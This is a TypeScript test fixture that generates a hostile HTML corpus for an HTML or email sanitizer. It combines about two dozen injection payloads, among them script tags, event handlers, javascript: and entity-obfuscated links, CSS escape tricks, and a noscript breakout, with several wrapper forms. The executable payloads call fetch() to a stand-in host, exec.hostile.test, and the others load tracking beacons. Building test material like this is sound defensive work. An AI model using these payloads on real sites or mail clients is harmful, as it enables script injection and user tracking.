/**
 * The team's hostile HTML corpus: every payload template inside every wrapper, each
 * naming its own id so a request or a script run points back at the message. Remote
 * hosts are *.hostile.test (never resolvable), so any request at all is an escape.
 * Script payloads report a run by fetching exec.hostile.test and logging "EXEC <id>".
 */
export interface HostileMessage {
  id: string;
  html: string;
}

const BEACON = (id: string) => `http://beacon.hostile.test/${id}.gif`;
const SECURE = (id: string) => `https://beacon.hostile.test/${id}.gif`;
const EXEC = (id: string) =>
  `console.log('EXEC ${id}');fetch('http://exec.hostile.test/${id}');alert('${id}')`;

/** Payload templates: [name, html for an id]. */
const PAYLOADS: ReadonlyArray<readonly [string, (id: string) => string]> = [
  ['script', (id) => `<script>${EXEC(id)}</script>`],
  ['img onerror', (id) => `<img src="x" onerror="${EXEC(id)}">`],
  ['svg onload', (id) => `<svg onload="${EXEC(id)}"><circle r="1"/></svg>`],
  ['svg script', (id) => `<svg><script>${EXEC(id)}</script></svg>`],
  ['svg image', (id) => `<svg><image href="${BEACON(id)}"/></svg>`],
  ['math href', (id) => `<math><mi xlink:href="javascript:${EXEC(id)}">x</mi></math>`],
  ['javascript link', (id) => `<a href="javascript:${EXEC(id)}">click</a>`],
  ['entity javascript', (id) => `<a href="jav&#x09;ascript:${EXEC(id)}">x</a>`],
  [
    'data html iframe',
    (id) => `<iframe src="data:text/html,<script>${EXEC(id)}</script>"></iframe>`,
  ],
  ['iframe', (id) => `<iframe src="${BEACON(id)}"></iframe>`],
  ['object', (id) => `<object data="${BEACON(id)}"></object><embed src="${SECURE(id)}">`],
  ['css url', (id) => `<div style="background:url(${BEACON(id)})">x</div>`],
  ['css image-set', (id) => `<div style="background-image:image-set('${BEACON(id)}' 1x)">x</div>`],
  [
    'css -webkit-image-set',
    (id) => `<div style="background-image:-webkit-image-set('${SECURE(id)}' 1x)">x</div>`,
  ],
  [
    'css quoted split',
    (id) => `<div style="font-family:'a;background:url(${BEACON(id)})'">x</div>`,
  ],
  ['css escape', (id) => `<div style="background:\\75rl(${BEACON(id)})">x</div>`],
  ['style import', (id) => `<style>@import url(${BEACON(id)});</style><p>t</p>`],
  ['style block url', (id) => `<style>p{background:url(${SECURE(id)})}</style><p>t</p>`],
  ['link stylesheet', (id) => `<link rel="stylesheet" href="${BEACON(id)}">`],
  ['meta refresh', (id) => `<meta http-equiv="refresh" content="0;url=${BEACON(id)}">`],
  ['base href', (id) => `<base href="http://beacon.hostile.test/${id}/"><img src="rel.gif">`],
  [
    'form',
    (id) =>
      `<form action="${BEACON(id)}"><input type="image" src="${SECURE(id)}"><button>go</button></form>`,
  ],
  ['img remote', (id) => `<img src="${BEACON(id)}" width="1" height="1">`],
  ['srcset', (id) => `<img srcset="${BEACON(id)} 1x, ${SECURE(id)} 2x">`],
  ['background attr', (id) => `<table><tr><td background="${BEACON(id)}">x</td></tr></table>`],
  ['video poster', (id) => `<video poster="${BEACON(id)}"><source src="${SECURE(id)}"></video>`],
  [
    'noscript breakout',
    (id) => `<noscript><p title="</noscript><img src=x onerror=${EXEC(id)}>"></p></noscript>`,
  ],
];

/** Wrappers a payload is placed in: [name, wrap]. */
const WRAPPERS: ReadonlyArray<readonly [string, (html: string) => string]> = [
  ['plain', (html) => html],
  ['table', (html) => `<table><tr><td>${html}</td></tr></table>`],
  ['blockquote', (html) => `<blockquote>引用 ${html}</blockquote>`],
  [
    'upper case',
    (html) => html.replace(/<(\/?)([a-z]+)/g, (_, slash, tag) => `<${slash}${tag.toUpperCase()}`),
  ],
  ['after a comment', (html) => `<!-- --><!--[if gte mso 9]>${html}<![endif]-->${html}`],
  ['full document', (html) => `<html><head><title>t</title></head><body>${html}</body></html>`],
  ['font and center', (html) => `<center><font face="SimSun">${html}</font></center>`],
  ['styled div', (html) => `<div style="color:red">${html}</div>`],
];

/** Every payload in every wrapper: PAYLOADS.length × WRAPPERS.length messages. */
export function hostileCorpus(): HostileMessage[] {
  return PAYLOADS.flatMap(([payload], p) =>
    WRAPPERS.map(([wrapper, wrap], w) => {
      const id = `h${p}-${w}`;
      const make = PAYLOADS[p]?.[1] ?? (() => '');
      return { id, html: `<p>${payload} / ${wrapper}</p>${wrap(make(id))}` };
    }),
  );
}
